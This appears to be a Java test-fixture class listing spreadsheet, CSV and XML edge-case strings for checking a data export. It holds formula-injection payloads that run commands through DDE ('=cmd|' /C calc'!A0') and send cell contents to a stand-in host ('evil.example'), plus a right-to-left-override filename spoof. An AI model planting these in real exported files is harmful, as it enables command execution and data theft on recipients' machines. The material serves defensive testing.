package io.disclosurestreams.export;

import java.util.List;
import java.util.Random;

/** Words that do harm in spreadsheets, in CSV, in XML or to the eye. */
final class HostileText {

    static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
            "=WEBSERVICE(\"http://evil.example\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1+1",
            "+cmd|'/C calc'!A0",
            "-1+1",
            "-2+3+cmd|'/C calc'!A0",
            "--1",
            "-5",
            "@SUM(1+1)",
            "@evil",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\r\n=1+1",
            "\n=1+1",
            "\t无",
            " =1+1",
            "\u3000=1+1",
            "\u00A0@x",
            "'=1+1",
            "''-1",
            "=",
            "@",
            "+");

    static final List<String> PLAIN = List.of(
            "",
            "清源县财政局",
            "a,b",
            "a;b",
            "a\tb",
            "say \"no\"",
            "\"",
            "\"\"",
            "'",
            "'quoted'",
            "two\nlines",
            "22（其中修订 16 件）",
            "<b>&amp;</b>",
            "]]>",
            "_x003D_1+1",
            "_x000D__x0041_x",
            " blank before and after ",
            "𠮷县",
            "1=1",
            "a@b",
            "/",
            "\\",
            "-",
            "－",
            "——",
            "--",
            "―",
            "0012",
            "11330700099033995",
            "1E5",
            "2024-1-2",
            "\u2028line separator");

    /** Each holds what is no character for people. */
    static final List<String> UNSHOWN = List.of(
            "nul\u0000",
            "\u0000=1+1",
            "bell\u0007bell",
            "\u001B[31mred",
            "\u007F",
            "\u0085next",
            "\uD842half",
            "half\uDFB7",
            "\uFFFE\uFFFF",
            "\uFEFF=1+1",
            "\u202Etxt.exe",
            "\u2066\u2069",
            "a\u202Ab");

    private static final String SIGNS =
            "=+-@＝＋－＠'\",;\t\r\n |!&<>_x00Dd\u0000\u0007\u202E\uFEFF\uD842\uDFB7\uFFFE清源县0123456789（）/—";

    private HostileText() {}

    /** Up to twelve signs put together by chance. */
    static String random(Random random) {
        StringBuilder text = new StringBuilder();
        for (int left = random.nextInt(13); left > 0; left--) {
            text.append(SIGNS.charAt(random.nextInt(SIGNS.length())));
        }
        return text.toString();
    }
}
